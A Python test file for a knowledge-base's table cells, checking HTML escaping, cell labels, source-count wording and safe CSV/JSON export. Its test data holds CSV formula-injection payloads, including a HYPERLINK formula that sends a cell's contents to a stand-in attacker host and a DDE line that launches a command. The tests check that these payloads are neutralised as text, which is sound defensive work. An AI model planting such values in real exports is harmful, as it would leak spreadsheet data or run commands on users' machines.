"""Cells and columns: each value escaped, each cell labelled with its column, the
counts of sources in the right number, and exports a spreadsheet cannot run."""

import csv
import io
import json
from types import SimpleNamespace

import pytest

from knowledge.tables.cells import (
    Cell,
    Column,
    Link,
    body_html,
    source_counts,
    to_csv,
    to_json,
)
from tests.factories import ArticleFactory, CauseFactory, state
from tests.knowledge.tables.pages import CAUSES, csv_rows


def test_cells_escape_what_they_show():
    assert Cell("<b>&'\"").__html__() == "&lt;b&gt;&amp;&#x27;&quot;"
    link = Cell(links=[Link("<i>", '/x/?a=1&b="2"')])
    assert link.__html__() == '<a href="/x/?a=1&amp;b=&quot;2&quot;">&lt;i&gt;</a>'
    assert Cell(placeholder="<none>").__html__() == (
        '<span class="not-stated">&lt;none&gt;</span>'
    )


COLUMNS = [
    Column("name", "Cause", lambda obj: Cell(str(obj))),
    Column("urgency", "Urgency", lambda obj: Cell("Low")),
    Column("category", "Category", lambda obj: Cell('"Ours"'), editorial=True),
]


def test_each_row_is_headed_by_its_first_cell_and_cells_carry_their_label():
    row = [Cell("Stress"), Cell("Low"), Cell("Lifestyle")]
    html = body_html([row], COLUMNS)
    assert html.strip() == (
        '<tr><th scope="row">Stress</th>'
        '<td data-label="Urgency">Low</td>'
        '<td data-label="Category (editorial)">Lifestyle</td></tr>'
    )


def test_cell_labels_are_escaped():
    columns = [COLUMNS[0], Column("x", '<b>"x"</b>', lambda obj: Cell())]
    html = body_html([[Cell("a"), Cell("b")]], columns)
    assert 'data-label="&lt;b&gt;&quot;x&quot;&lt;/b&gt;"' in html


@pytest.mark.parametrize(
    ("counts", "expected"),
    [
        ((1, 0, 0), "1 supports"),
        ((2, 0, 0), "2 support"),
        ((1, 1, 1), "1 supports, 1 qualifies, 1 disputes"),
        ((3, 2, 2), "3 support, 2 qualify, 2 dispute"),
    ],
)
def test_source_counts_agree_with_their_number(counts, expected):
    counted = SimpleNamespace(
        supporting_documents=counts[0],
        qualifying_documents=counts[1],
        disputing_documents=counts[2],
    )
    assert source_counts(counted).export() == expected


HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&C2,"x")'


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "-"],
)
def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_made_text(value):
    columns = [Column("name", value, lambda obj: Cell())]
    header, row = csv_rows_of(to_csv([[Cell(value)]], columns))
    assert header == row == [f"'{value}"]


def test_csv_cells_keep_every_other_value_as_it_is():
    values = ["Stress", "400 mg", "'quoted'", 'say "x", then =1', " =1", "2 support"]
    columns = [
        Column(str(i), value, lambda obj: Cell()) for i, value in enumerate(values)
    ]
    assert csv_rows_of(to_csv([[Cell(value) for value in values]], columns)) == [
        values,
        values,
    ]


def test_json_export_keeps_a_formula_like_value_exact():
    columns = [Column("name", "Cause", lambda obj: Cell())]
    assert json.loads(to_json([[Cell(HYPERLINK)]], columns)) == [{"Cause": HYPERLINK}]


@pytest.mark.django_db
def test_a_cause_named_as_a_formula_reaches_the_csv_as_text_and_the_json_exact(
    client,
):
    cause = CauseFactory(name=HYPERLINK)
    state(cause, "urgency", "-1 (none)", article=ArticleFactory())
    header, row = csv_rows(client.get(CAUSES, {"format": "csv"}))
    csv_cause = dict(zip(header, row, strict=True))
    assert csv_cause["Cause"] == f"'{HYPERLINK}"
    assert csv_cause["Urgency"] == "'-1 (none)"
    (json_cause,) = json.loads(client.get(CAUSES, {"format": "json"}).content)
    assert json_cause["Cause"] == HYPERLINK
    assert json_cause["Urgency"] == "-1 (none)"


def csv_rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))
